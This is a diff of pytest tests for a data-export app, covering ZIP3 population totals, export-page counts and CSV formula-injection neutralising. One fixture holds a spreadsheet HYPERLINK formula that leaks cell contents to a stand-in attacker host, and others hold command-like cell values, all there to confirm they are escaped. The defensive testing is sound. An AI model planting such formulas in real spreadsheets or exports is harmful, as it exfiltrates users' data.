@@ -137,3 +137,107 @@ def test_a_bug_is_logged_and_summarised_the_same_for_files_and_streams(app, sett
     assert (last_export_run().status, last_export_run().message) == ("failed", sentence)
     logged = [r for r in caplog.records if r.name == "handled.exports" and r.exc_info]
     assert logged and logged[-1].exc_info[0] is ValueError
+
+
+def test_a_zip3_where_no_zip_has_a_population_exports_null_not_zero(app, settings):
+    """DATASETS.md: a missing population counts as 0 in a sum, but a group in which no ZIP has
+    a population is unknown: NULL in zip3_reference, null in zip3-reference.json."""
+    from tests.support.reference_data import add_zip, load_zip_sources
+
+    load_zip_sources()                                   # 200: one ZIP with 0, one missing -> 0
+    add_zip("50001", 10.0, 20.0, "Nope", "KS", None)
+    add_zip("50002", 12.0, 22.0, "Nada", "KS", None)     # 500: nobody's population is known
+    run_transformation(system_context(settings), "zip3-reference")
+    totals = dict(data_db.execute_sql("SELECT zip3, total_population FROM reference.zip3_reference").fetchall())
+    assert totals["500"] is None and totals["200"] == 0 and totals["100"] == 400
+    data = export_json(settings, "zip3-reference.json")
+    assert data["500"] == {"lat": pytest.approx(11.0), "lng": pytest.approx(21.0), "city": "Nope",
+                           "state": "KS", "population": None}
+    assert data["200"]["population"] == 0
+
+
+def exports_page_rows(client) -> dict[str, list[str]]:
+    """File name -> the text of its row's cells on /exports/."""
+    import re
+
+    html = client.get("/exports/").get_data(as_text=True)
+    rows = {}
+    for row in html.split("<tbody>", 1)[1].split("</tbody>", 1)[0].split("<tr>")[1:]:
+        cells = [cell.split(">", 1)[1] for cell in row.split("<td")[1:]]
+        texts = [" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in cells]
+        rows[texts[0]] = texts
+    return rows
+
+
+def test_the_exports_page_shows_real_counts_sizes_and_build_times(built, settings, app, login_client):
+    client = login_client(permissions=["download_exports"])
+    before = exports_page_rows(client)
+    assert before["zone-matrix.json"][3] == "not written since the last build"
+    assert before["carriers.csv"][3] == "2 rows" and before["services.csv"][3] == "14 rows"
+    assert "about" not in client.get("/exports/").get_data(as_text=True)
+    matrix_rows = data_db.execute_sql("SELECT count(*) FROM reference.delivery_matrix").fetchone()[0]
+    assert before["delivery_matrix.csv"][3] == f"{matrix_rows:,} rows"
+    assert "UTC, in" in before["delivery_matrix.csv"][2] and f"({matrix_rows:,} rows)" in before["delivery_matrix.csv"][2]
+
+    body = client.get("/exports/zone-matrix.json").get_data()
+    matrix = json.loads(body)
+    after = exports_page_rows(client)
+    cells = len(matrix["origins"]) * len(matrix["destinations"])
+    assert after["zone-matrix.json"][3] == f"{cells:,} cells"
+    assert after["zone-matrix.json"][4] == f"{len(body)} bytes"
+    zip3 = client.get("/exports/zip3-reference.json").get_data()
+    assert exports_page_rows(client)["zip3-reference.json"][3] == f"{len(json.loads(zip3))} ZIP3s"
+
+
+# ---- text from uploaded files cannot run as a spreadsheet formula
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_numbers_are_not(imp_app, imp_settings, files,
+                                                                          login_client):
+    from handled.integrations.service import import_file
+    from tests.support.import_files import uszip_row, write_uszips
+
+    cities = {"10001": FORMULA, "20001": "+1 cmd", "30001": "-2+3", "40001": "@SUM(1)", "50001": "Ordinary"}
+    rows = [uszip_row(z, city=city, population="10", lat="40.5", lng="-73.25") for z, city in cities.items()]
+    ctx = system_context(imp_settings)
+    assert import_file(ctx, "us-zips", write_uszips(files / "uszips.csv", rows)).status == "succeeded"
+    run_transformation(ctx, "zip3-reference")
+
+    downloader = login_client(permissions=["download_exports"])
+    response = downloader.get("/exports/zip3_reference.csv")
+    assert response.status_code == 200
+    table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    by_zip3 = {row["zip3"]: row for row in table}
+    assert {z: row["primary_city"] for z, row in by_zip3.items()} == {
+        "100": "'" + FORMULA, "200": "'+1 cmd", "300": "'-2+3", "400": "'@SUM(1)", "500": "Ordinary"}
+    assert {row["pop_lng"] for row in table} == {"-73.25"}        # a negative number stays a number
+    assert {row["total_population"] for row in table} == {"10"}
+
+    target = files / "zip3.csv"                                    # the CLI writes the same bytes
+    with open(target, "wb") as out:
+        service.write_export(ctx, "zip3_reference.csv", out)
+    assert target.read_bytes() == response.get_data()
+
+
+def test_formula_neutralising_covers_tab_and_carriage_return(app, settings):
+    data_db.execute_sql("INSERT INTO reference.zip3_reference (zip3, primary_city, pop_lng) VALUES "
+                        "('001', %s, -1.5), ('002', %s, 2), ('003', %s, NULL)", ["\tTabbed", "\rReturned", "'=quoted"])
+    out = io.BytesIO()
+    service.write_export(system_context(settings), "zip3_reference.csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
+    assert [(r["primary_city"], r["pop_lng"]) for r in rows] == [
+        ("'\tTabbed", "-1.5"), ("'\rReturned", "2"), ("'=quoted", "")]
+
+
+def test_every_text_column_of_a_csv_export_is_checked_unless_it_holds_codes(app):
+    from handled.exports.registry import EXPORTS
+
+    for export in (e for e in EXPORTS.values() if e.kind == "csv"):
+        columns = builders.table_columns(export)
+        assert set(export.code_columns) <= {name for name, is_text in columns if is_text}, export.id
+        statement = builders.copy_sql(export, columns)
+        for name, is_text in columns:
+            checked = f'ascii("{name}")' in statement
+            assert checked == (is_text and name not in export.code_columns), (export.id, name)
